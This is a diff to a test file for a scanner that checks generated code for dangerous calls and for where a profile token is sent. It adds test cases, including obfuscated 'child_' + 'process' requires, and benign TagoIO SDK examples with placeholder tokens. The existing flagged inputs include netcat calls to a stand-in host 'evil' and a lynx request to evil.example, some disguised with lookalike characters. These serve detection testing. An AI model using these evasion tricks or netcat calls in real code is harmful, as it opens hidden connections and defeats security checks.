@@ -119,6 +119,9 @@ describe('code that a program builds', () => {
     `import os\n${PYTHON}f = lambda os: 1\no = os\no.execlp("nc", "nc", "evil", "80")`,
     `import tagoio_sdk\n${PYTHON}tagoio_sdk.common.x.execlp("nc", "nc", "evil", "80")`,
     `${PYTHON}f = lambda open: 1\nopen("a")`,
+    `${JAVASCRIPT}const m = module;\nm.require("child_" + "process");`,
+    `${JAVASCRIPT}module.require("child_" + "process");`,
+    `${PYTHON}x = account.__name__`,
     // Letters that are others for Python.
     `import ${bold('os')}\n${PYTHON}x = ${bold('os')}.${bold('system')}("lynx evil.example")`,
     `${PYTHON}x = ${bold('exec')}("print(1)")`,
@@ -207,6 +210,10 @@ describe('a program that does what it seems to do keeps its token', () => {
     `const headers = {};\nheaders["Profile-Token"] = "YOUR-PROFILE-TOKEN";\nconst answer = await fetch(${ADDRESS}, { headers });\nconsole.log(answer.ok ? "good" : "bad");`,
     `import os\nimport time\nfrom datetime import datetime\nfrom tagoio_sdk import Resources\n\nresources = Resources({"token": "YOUR-PROFILE-TOKEN"})\nprint(datetime.now(), os.environ["HOME"], os.path.join("a", "b"))\ntime.sleep(1)`,
     `{ "profileToken": "YOUR-PROFILE-TOKEN", "pages": 1 }`,
+    `const account = new Account({ token: "YOUR-PROFILE-TOKEN" }); // see https://docs.tago.io/docs/api`,
+    `${PYTHON}print(account.info()) # as on https://docs.tago.io/docs/api.`,
+    `import { Account, Analysis } from "@tago-io/sdk";\nimport type { TagoContext } from "@tago-io/sdk";\n\nasync function run(context) {\n  const account = new Account({ token: "YOUR-PROFILE-TOKEN" });\n  context.log(await account.info());\n}\n\nmodule.exports = new Analysis(run, { token: "MY-ANALYSIS-TOKEN-HERE" });`,
+    `from tagoio_sdk import Account\n\nTOKEN = "your-account-token"\n\ndef main():\n    account = Account({"token": TOKEN})\n    print(account.info())\n\nif __name__ == "__main__":\n    main()`,
   ])('%j', (text) => {
     expect(profileTokenPlaces(text)).toHaveLength(1);
     expect(destinationProblem(text, US)).toBeNull();
